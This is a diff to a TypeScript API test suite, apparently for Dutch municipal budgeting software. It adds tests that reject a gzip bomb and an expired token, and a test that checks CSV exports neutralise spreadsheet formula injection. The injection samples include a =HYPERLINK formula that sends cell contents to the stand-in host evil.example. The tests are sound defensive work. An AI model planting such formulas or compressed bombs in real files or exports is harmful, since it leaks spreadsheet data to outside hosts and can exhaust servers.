@@ -143,8 +143,8 @@ const CASES: Case[] = [
   { name: 'a body padded with 300 KB of white space', request: () => ({ ...query('{ __typename }'), body: `{"query":"{ __typename }"${' '.repeat(300_000)}}` }), status: 413, code: 'PAYLOAD_TOO_LARGE' },
   { name: 'a 300 KB variable', request: () => query('query($x: String) { __typename }', { x: 'x'.repeat(300_000) }), status: 413, code: 'PAYLOAD_TOO_LARGE' },
   {
-    name: 'a gzip bomb: 200 KB on the wire, 20 MB inflated',
-    request: () => ({ ...query('{ __typename }'), headers: { ...query('').headers, 'content-encoding': 'gzip' }, body: gzipSync(`{"query":"{ __typename }","x":"${' '.repeat(20_000_000)}"}`) }),
+    name: 'a gzip bomb: 2 KB on the wire, 2 MB inflated',
+    request: () => ({ ...query('{ __typename }'), headers: { ...query('').headers, 'content-encoding': 'gzip' }, body: gzipSync(`{"query":"{ __typename }","x":"${' '.repeat(2_000_000)}"}`) }),
     status: 413,
     code: 'PAYLOAD_TOO_LARGE',
   },
@@ -309,6 +309,13 @@ const CASES: Case[] = [
   { name: 'production: a development token without issuer', request: () => prodQuery('{ __typename }', tokens.regio), status: 401, code: 'UNAUTHENTICATED' },
   { name: 'REST export without a token', request: () => ({ method: 'GET', path: '/export/afrekeningen.csv?maand=2026-09-01' }), status: 401, code: 'UNAUTHENTICATED', check: (a) => expect(a.headers['www-authenticate']).toBe(BEARER) },
   {
+    name: 'an iJw message with an expired token',
+    request: () => ({ path: '/ijw/berichten', headers: { 'content-type': 'application/xml', authorization: `Bearer ${tokens.verlopen}` }, body: '<Bericht/>' }),
+    status: 401,
+    code: 'TOKEN_EXPIRED',
+    check: (a) => expect(a.headers['www-authenticate']).toBe(VERLOPEN),
+  },
+  {
     name: 'REST export with an expired token',
     request: () => ({ method: 'GET', path: '/export/kwartaal/2026/3/regio.csv', headers: { authorization: `Bearer ${tokens.verlopen}` } }),
     status: 401,
@@ -393,5 +400,25 @@ describe('timeouts', () => {
       if (!released) await release();
       await api.close();
     }
+  });
+});
+
+describe('CSV exports', () => {
+  it('a budget line named as a formula is exported as text; amounts stay numbers', async () => {
+    const MAAK = `mutation($input: BegrotingspostInput!) { maakBegrotingspost(input: $input) { id } }`;
+    const namen = ['=HYPERLINK("https://evil.example/?"&A1,"klik")', '-1000', '@SUM(A1:A9)', '+31 6 12345678', '\tTab'];
+    for (const naam of namen) {
+      const b = await dev.gql(tokens.regio, MAAK, { input: { naam, begindatum: '2026-01-01', einddatum: '2026-12-31', bedragCenten: 100_000, sleutel: 'inwoners', productcategorieen: ['45'] } });
+      expect(b.errors).toBeUndefined();
+    }
+    const res = await fetch(`${dev.url}/export/kwartaal/2026/3/begrotingsposten.csv`, { headers: { authorization: `Bearer ${tokens.regio}` } });
+    expect(res.status).toBe(200);
+    const regels = (await res.text()).trim().split('\r\n');
+    expect(regels[0]).toBe('naam;productcategorieen;budgetCenten;gerealiseerdCenten;gerealiseerdJaarCenten;verplichtCenten;prognoseCenten;ruimteCenten');
+    const cellen = regels.slice(1).map((r) => r.split(';'));
+    expect(cellen.map((c) => c[0]).sort()).toEqual([`"'=HYPERLINK(""https://evil.example/?""&A1,""klik"")"`, "'+31 6 12345678", "'-1000", "'@SUM(A1:A9)", "'\tTab"].sort());
+    // Amounts are numbers, not neutralised text.
+    expect(cellen.map((c) => c[2])).toEqual(['100000', '100000', '100000', '100000', '100000']);
+    expect(cellen.every((c) => c.slice(2).every((v) => /^-?\d+$/.test(v)))).toBe(true);
   });
 });
